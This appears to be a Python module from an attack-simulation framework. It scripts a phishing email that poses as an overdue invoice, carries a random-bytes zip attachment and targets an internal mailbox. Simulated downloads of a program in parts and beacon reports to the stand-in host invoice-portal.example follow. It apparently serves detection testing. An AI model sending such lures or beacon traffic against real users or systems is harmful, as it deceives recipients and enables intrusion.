"""How it comes in."""

import smtplib
from email.message import EmailMessage

from ..plan import DOMAIN, HOSTS
from ..work import Work, attack
from .means import asks, by, https, turns

_DOMAIN = "invoice-portal.example"


@attack("mail-loader", causes=asks(_DOMAIN))
def mail_loader(w: Work, intensity: str) -> None:
    """A mail with an attachment comes from outside; opened on this workstation, it fetches a program in one to three parts
    and reports back a few times."""
    with w.on("adversary"):
        w.attempt(_send, w)
    w.sleep(60)
    parts, size, reports, period = by(intensity, (3, 300_000, 6, 60), (2, 200_000, 4, 120), (1, 120_000, 2, 400))
    for part in range(parts):
        https(w, _DOMAIN, f"/document/{part}/take/{size}")
        w.pause(w.rng.uniform(0.5, 3))
    for turn in turns(w, reports, period):
        https(w, _DOMAIN, f"/report/{turn}", w.rng.randbytes(400))


def _send(w: Work) -> None:
    mail = EmailMessage()
    mail["From"], mail["To"] = f"Accounts <accounts@{_DOMAIN}>", f"office1@{DOMAIN}"
    mail["Subject"] = "Invoice 2026-1187, overdue"
    mail.set_content("Please see the attached invoice.\n")
    mail.add_attachment(w.rng.randbytes(40_000), maintype="application", subtype="zip", filename="invoice-2026-1187.zip")
    with smtplib.SMTP(HOSTS["mail"].v4, 25, local_hostname=f"mx.{_DOMAIN}", timeout=20) as server:
        server.send_message(mail)
